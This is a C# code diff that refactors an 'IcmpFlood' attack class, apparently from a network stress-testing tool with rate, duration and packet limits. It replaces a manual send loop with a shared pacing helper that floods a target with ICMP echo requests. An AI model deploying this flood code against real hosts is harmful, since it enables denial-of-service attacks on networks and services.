@@ -27,38 +27,12 @@ public sealed class IcmpFlood : IAttack
         packet[0] = 8; // echo request
         ushort id = (ushort)Random.Shared.Next(1, 65536);
         BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(4), id);
-        var pacer = new Pacer(limits.Rate);
-        var clock = Stopwatch.StartNew();
-        long sent = 0;
-        string stopped = "time limit";
-        while (true)
+        return Pacer.Flood(limits, cancel, n =>
         {
-            if (cancel.IsCancellationRequested)
-            {
-                stopped = "cancelled";
-                break;
-            }
-            if (clock.Elapsed >= limits.Duration)
-            {
-                break;
-            }
-            if (sent >= limits.MaxPackets)
-            {
-                stopped = "packet limit";
-                break;
-            }
-            int due = (int)Math.Min(pacer.Due(Math.Max(1, limits.Rate / 10)), limits.MaxPackets - sent);
-            for (int i = 0; i < due; i++)
-            {
-                BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(6), (ushort)(sent + i));
-                packet[2] = packet[3] = 0;
-                BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(2), InternetChecksum.Compute(packet));
-                socket.SendTo(packet, target);
-            }
-            sent += due;
-            pacer.Sent(due);
-            Thread.Sleep(5);
-        }
-        return new AttackStats(sent, 0, 0, 0, 0, clock.Elapsed, stopped);
+            BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(6), (ushort)n);
+            packet[2] = packet[3] = 0;
+            BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(2), InternetChecksum.Compute(packet));
+            socket.SendTo(packet, target);
+        });
     }
 }
